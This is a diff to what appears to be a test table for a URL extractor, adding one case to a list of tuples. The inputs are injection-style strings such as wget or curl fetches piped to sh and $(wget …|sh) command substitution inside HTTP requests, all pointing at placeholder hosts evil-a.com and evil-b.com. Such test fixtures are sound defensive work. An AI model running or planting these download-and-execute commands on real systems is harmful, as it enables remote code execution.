@@ -101,6 +101,7 @@ BEHIND_A_PATH = [
     ("http://evil-a.com/x,file: C:", ["http://evil-a.com/x"], "the label of the next field"),
     ("wget+http://evil-a.com/x;sh+/tmp/x", ["http://evil-a.com/x"], "the next command, with blanks as +"),
     ("http://evil-a.com/x;sh=1;cd+2=3", ["http://evil-a.com/x;sh=1"], "a parameter, and a command"),
+    ("(http://evil-a.com/x&&sh) (http://evil-b.com/&&)", ["http://evil-a.com/x", "http://evil-b.com/"], "in brackets"),
     ('"GET /?c=$(wget%20http://evil-a.com/x%20-O-|sh)"', ["http://evil-a.com/x"], "a command, with blanks as %20"),
     ("/x=wget+http://evil-a.com/x+-O+/tmp/x HTTP", ["http://evil-a.com/x"], "a command, with blanks as +"),
     ("/x?=curl+-sL+http://evil-a.com/x+-o+y HTTP", ["http://evil-a.com/x"], "an option before it"),
